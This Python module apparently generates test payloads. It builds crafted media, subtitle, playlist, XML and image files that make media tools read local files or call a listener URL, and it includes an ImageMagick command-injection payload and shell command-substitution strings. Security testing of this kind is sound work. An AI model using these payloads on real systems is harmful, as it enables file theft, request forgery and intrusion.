# ruff: noqa: E501 (payloads as they are written)
"""Files made to have a media tool read other files, or reach for addresses: each is a known attack.

Comes in: where the secret lies, which address listens. Goes out: named payloads. Never: the secret itself.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from pathlib import Path

from PIL import Image


@dataclass(frozen=True, slots=True)
class Target:
    """What an attacker is after: a text and a clip on this machine, and the address of somebody who listens."""

    text: Path
    clip: Path
    picture: Path
    url: str


def _hls(target: Target, *lines: str) -> bytes:
    body = "\n".join(lines or (f"file://{target.clip}", "#EXTINF:9,", f"{target.url}/segment.ts"))
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{body}\n#EXT-X-ENDLIST\n".encode()


def _gab2(target: Target) -> bytes:
    """An AVI with a subtitle stream of type GAB2, which holds a playlist."""
    main = struct.pack("<14I", 40_000, 0, 0, 16, 125, 0, 2, 0, 224, 160, 0, 0, 0, 0)
    stream = b"txts" + struct.pack("<13I", 0, 0, 0, 0, 1, 25, 0, 125, 902, 10_000, 0, 0, 0xA000E0)
    form = struct.pack("<IiiHH4sI4I", 40, 224, 160, 1, 24, b"XVID", 215_040, 0, 0, 0, 0)
    streams = b"strl" + _chunk(b"strh", stream) + _chunk(b"strf", form)
    header = _chunk(b"LIST", b"hdrl" + _chunk(b"avih", main) + _chunk(b"LIST", streams))
    content = b"GAB2\x00\x02\x00" + bytes(10) + _hls(target)
    packets = _chunk(b"00tx", content) + _chunk(b"00dc", bytes(4)) * 400
    body = b"AVI " + header + _chunk(b"LIST", b"movi" + packets)
    return _chunk(b"RIFF", body)


def _xbin_of_a_file(target: Target) -> bytes:
    """A playlist that glues an XBIN header and a file together, so that the file's text is drawn."""
    header = b"XBIN\x1a\x20\x00\x0f\x00\x10\x04" + b"\x01" * 48
    lines = [f"#EXT-X-BYTERANGE: {len(header)}", "data:;base64,WEJJThogAA8AEAQ=", "#EXTINF:1,", f"file://{target.text}"]
    return header[:11] + _hls(target, *lines)


def _chunk(name: bytes, data: bytes) -> bytes:
    return name + struct.pack("<I", len(data)) + data + bytes(len(data) % 2)


def _box(name: bytes, *content: bytes) -> bytes:
    data = b"".join(content)
    return struct.pack(">I4s", len(data) + 8, name) + data


def _movie(dref_entry: bytes) -> bytes:
    """A movie of one track whose samples lie where ``dref_entry`` says."""
    matrix = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
    mvhd = _box(
        b"mvhd", struct.pack(">5I", 0, 0, 0, 1000, 1000), struct.pack(">IH10x", 0x10000, 0x100), matrix, bytes(28)
    )
    tkhd = _box(
        b"tkhd", struct.pack(">6I", 7, 0, 0, 1, 0, 1000), bytes(16), matrix, struct.pack(">2I", 64 << 16, 64 << 16)
    )
    mdhd = _box(b"mdhd", struct.pack(">5IHH", 0, 0, 0, 1000, 1000, 0x55C4, 0))
    hdlr = _box(b"hdlr", struct.pack(">II4s12xB", 0, 0, b"vide", 0))
    dinf = _box(b"dinf", _box(b"dref", struct.pack(">II", 0, 1), dref_entry))
    sample = _box(
        b"mp4v", bytes(6), struct.pack(">H16xHH", 1, 64, 64), struct.pack(">III", 0x480000, 0x480000, 0), bytes(36)
    )
    tables = [
        _box(b"stsd", struct.pack(">II", 0, 1), sample),
        _box(b"stts", struct.pack(">4I", 0, 1, 1, 1000)),
        _box(b"stsc", struct.pack(">5I", 0, 1, 1, 1, 1)),
        _box(b"stsz", struct.pack(">3I", 0, 200, 1)),
        _box(b"stco", struct.pack(">3I", 0, 1, 0)),
    ]
    minf = _box(b"minf", _box(b"vmhd", bytes(12)), dinf, _box(b"stbl", *tables))
    moov = _box(b"moov", mvhd, _box(b"trak", tkhd, _box(b"mdia", mdhd, hdlr, minf)))
    return _box(b"ftyp", b"qt  ", bytes(4), b"qt  ") + moov + _box(b"mdat", bytes(500))


def _dref_url(target: Target) -> bytes:
    return _movie(_box(b"url ", bytes(4), f"file://{target.clip}\0".encode()))


def _dref_http(target: Target) -> bytes:
    return _movie(_box(b"url ", bytes(4), f"{target.url}/movie.mp4\0".encode()))


def _dref_alias(target: Target) -> bytes:
    path = str(target.clip).encode()
    record = (
        struct.pack(">4sHH", bytes(4), 150, 2)
        + bytes(142)
        + struct.pack(">HH", 2, len(path))
        + path
        + bytes(len(path) % 2)
    )
    return _movie(_box(b"alis", bytes(4), record, b"\xff\xff\0\0"))


def _reference_movie(target: Target) -> bytes:
    url = f"{target.url}/other.mov\0".encode()
    rdrf = _box(b"rdrf", bytes(4), b"url ", struct.pack(">I", len(url)), url)
    return _box(b"ftyp", b"qt  ", bytes(4), b"qt  ") + _box(b"moov", _box(b"rmra", _box(b"rmda", rdrf)))


def _heif(target: Target) -> bytes:
    """An HEIC whose only item lies in another file (``iloc`` with a data reference)."""
    outside = _box(b"url ", bytes(4), f"file://{target.picture}\0".encode())
    dinf = _box(b"dinf", _box(b"dref", struct.pack(">II", 0, 1), outside))
    infe = _box(b"infe", struct.pack(">I", 2 << 24), struct.pack(">HH4s", 1, 0, b"hvc1"), b"\0")
    iloc = _box(b"iloc", struct.pack(">I", 0), b"\x44\x00", struct.pack(">HHHHII", 1, 1, 1, 1, 0, 5000))
    ispe = _box(b"ispe", struct.pack(">III", 0, 64, 64))
    iprp = _box(b"iprp", _box(b"ipco", ispe), _box(b"ipma", struct.pack(">IIHBB", 0, 1, 1, 1, 1)))
    hdlr = _box(b"hdlr", struct.pack(">II4s12xB", 0, 0, b"pict", 0))
    meta = (
        hdlr,
        _box(b"pitm", struct.pack(">IH", 0, 1)),
        dinf,
        iloc,
        _box(b"iinf", struct.pack(">IH", 0, 1), infe),
        iprp,
    )
    return _box(b"ftyp", b"heic", bytes(4), b"mif1heic") + _box(b"meta", bytes(4), *meta)


def _flac(target: Target) -> bytes:
    """A FLAC whose cover is a link (picture type with MIME type ``-->``)."""
    link = f"file://{target.picture}".encode()
    picture = struct.pack(">II", 3, 3) + b"-->" + struct.pack(">6I", 0, 8, 8, 24, 0, len(link)) + link
    info = struct.pack(">HH", 4096, 4096) + bytes(6) + bytes((0x0A, 0xC4, 0x40, 0xF0)) + bytes(4) + bytes(16)
    blocks = b"\x00" + struct.pack(">I", len(info))[1:] + info + b"\x86" + struct.pack(">I", len(picture))[1:] + picture
    return b"fLaC" + blocks


def _id3(target: Target) -> bytes:
    """An MP3 whose cover is a link."""
    link = b"\0-->\0\x03\0" + f"{target.url}/cover.jpg".encode()
    frame = b"APIC" + struct.pack(">IH", len(link), 0) + link
    size = len(frame)
    length = bytes((size >> 21 & 127, size >> 14 & 127, size >> 7 & 127, size & 127))
    return b"ID3\x03\0\0" + length + frame + (b"\xff\xfb\x90\x64" + bytes(413)) * 40


def _png(target: Target, keyword: bytes) -> bytes:
    """A picture with a comment that some tools take for a file's name."""
    out = io.BytesIO()
    Image.new("RGB", (80, 60), (10, 200, 10)).save(out, "PNG")
    plain = out.getvalue()
    text = keyword + b"\0" + str(target.text).encode()
    chunk = b"tEXt" + text
    return plain[:33] + struct.pack(">I", len(text)) + chunk + struct.pack(">I", zlib.crc32(chunk)) + plain[33:]


def _jpeg_with_xml(target: Target) -> bytes:
    """A photo whose XMP has an external entity."""
    out = io.BytesIO()
    Image.new("RGB", (80, 60), (10, 200, 10)).save(out, "JPEG")
    plain = out.getvalue()
    xmp = (
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{target.text}"><!ENTITY h SYSTEM "{target.url}/x">]>'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/">&e;&h;</x:xmpmeta>'
    ).encode()
    body = b"http://ns.adobe.com/xap/1.0/\0" + xmp
    return plain[:2] + b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body + plain[2:]


def _svg(target: Target) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file://{target.text}">]>'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99">'
        f'<image xlink:href="file://{target.picture}" width="99" height="99"/>'
        f'<image xlink:href="{target.url}/a.png" width="9" height="9"/><text>&e;</text></svg>'
    ).encode()


def _dash(target: Target) -> bytes:
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet'
        f' mimeType="video/mp4"><Representation id="1"><BaseURL>{target.url}/v.mp4</BaseURL></Representation>'
        "</AdaptationSet></Period></MPD>"
    ).encode()


_TEXTS: dict[str, Callable[[Target], str]] = {
    "concat": lambda to: f"ffconcat version 1.0\nfile '{to.clip}'\nfile '{to.url}/a.mp4'\n",
    "concat without a header": lambda to: f"file '{to.clip}'\n",
    "sdp": lambda to: (
        f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {to.url.rpartition(':')[2]} RTP/AVP 96\n"
    ),
    "subrip": lambda to: (
        f"1\n00:00:00,000 --> 00:00:09,000\n<img src='{to.url}/a.png'><font face='file://{to.text}'>x</font>\n"
    ),
    "webvtt": lambda to: (
        f"WEBVTT\n\nSTYLE\n::cue {{ background: url({to.url}/a.png) }}\n\n00:00.000 --> 00:09.000\nx\n"
    ),
    "sami": lambda to: (
        f"<SAMI><HEAD><STYLE>@import url({to.url}/a.css);</STYLE></HEAD><BODY><SYNC Start=0><P>x</BODY></SAMI>"
    ),
    "ssa": lambda to: (
        f"[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: {to.text}\n[Events]\nDialogue: 0,0:00:00.00,0:00:09.00,x\n"
    ),
    "microdvd": lambda to: f"{{1}}{{1}}25\n{{0}}{{99}}{{f:{to.text}}}x\n",
    "pls": lambda to: f"[playlist]\nFile1={to.url}/a.mp3\nFile2=file://{to.clip}\nNumberOfEntries=2\nVersion=2\n",
    "asx": lambda to: (
        f'<asx version="3.0"><entry><ref href="{to.url}/a.wmv"/><ref href="file://{to.clip}"/></entry></asx>'
    ),
    "cue": lambda to: f'FILE "{to.clip}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n',
    "rtsp": lambda to: f"RTSPtextRTSP://{to.url.removeprefix('http://')}/a\n",
    "real media link": lambda to: f"{to.url}/a.rm\nfile://{to.clip}\n",
    "mvg": lambda to: (
        f"push graphic-context\nviewbox 0 0 99 99\nimage over 0,0 0,0 '{to.url}/a.png'\nimage over 0,0 0,0 'text:{to.text}'\npop graphic-context\n"
    ),
    "mvg with a command": lambda to: (
        f"push graphic-context\nviewbox 0 0 99 99\nfill 'url(https://x.example/a.jpg\"|cat {to.text} > /dev/tty\")'\npop graphic-context\n"
    ),
    "msl": lambda to: (
        f'<?xml version="1.0"?><image><read filename="{to.picture}"/><write filename="{to.picture}.out"/></image>'
    ),
    "xinclude": lambda to: (
        f'<?xml version="1.0"?><a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file://{to.text}"/></a>'
    ),
    "external entity": lambda to: (
        f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file://{to.text}"><!ENTITY % p SYSTEM "{to.url}/x.dtd">%p;]><a>&e;</a>'
    ),
    "html": lambda to: (
        f'<!DOCTYPE html><html><body><img src="{to.url}/a.png"><iframe src="file://{to.text}"></iframe></body></html>'
    ),
    "smil": lambda to: (
        f'<smil><body><par><video src="file://{to.clip}"/><img src="{to.url}/a.png"/></par></body></smil>'
    ),
    "postscript": lambda to: (
        f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 99 99\n({to.text}) (r) file 99 string readstring pop show\n%%EOF\n"
    ),
    "vcard": lambda to: (
        f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:x\r\nPHOTO;VALUE=uri:{to.url}/a.jpg\r\nSOUND;VALUE=uri:file://{to.text}\r\nEND:VCARD\r\n"
    ),
    "shell": lambda to: f"$(cat {to.text})`cat {to.text}`\n",
}


def _encoded(make: Callable[[Target], str], target: Target) -> bytes:
    return make(target).encode()


PAYLOADS: dict[str, Callable[[Target], bytes]] = {
    "hls": _hls,
    "hls behind blanks": lambda to: b" \n\t" * 2000 + _hls(to),
    "hls behind a byte order mark": lambda to: b"\xef\xbb\xbf" + _hls(to),
    "hls in utf-16": lambda to: _hls(to).decode().encode("utf-16"),
    "hls behind zeros": lambda to: bytes(4096) + _hls(to),
    "hls behind an mp4's first box": lambda to: _box(b"ftyp", b"isom", bytes(4), b"isom") + _hls(to),
    "hls behind a jpeg's start": lambda to: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + _hls(to),
    "hls behind an mp3's tag": lambda to: b"ID3\x03\0\0\0\0\0\0" + _hls(to),
    "hls with concat": lambda to: _hls(to, f"concat:{to.url}/head|file://{to.text}"),
    "hls with a key": lambda to: _hls(to, f'#EXT-X-KEY:METHOD=AES-128,URI="{to.url}/key"', f"crypto+file://{to.text}"),
    "gab2 in avi": _gab2,
    "xbin": _xbin_of_a_file,
    "movie with its samples in a file": _dref_url,
    "movie with its samples at an address": _dref_http,
    "movie with its samples behind an alias": _dref_alias,
    "reference movie": _reference_movie,
    "heif with its picture in a file": _heif,
    "flac with a linked cover": _flac,
    "mp3 with a linked cover": _id3,
    "png with a profile to load": lambda to: _png(to, b"profile"),
    "jpeg with an external entity": _jpeg_with_xml,
    "svg": _svg,
    "dash": _dash,
    **{name: partial(_encoded, make) for name, make in _TEXTS.items()},
}
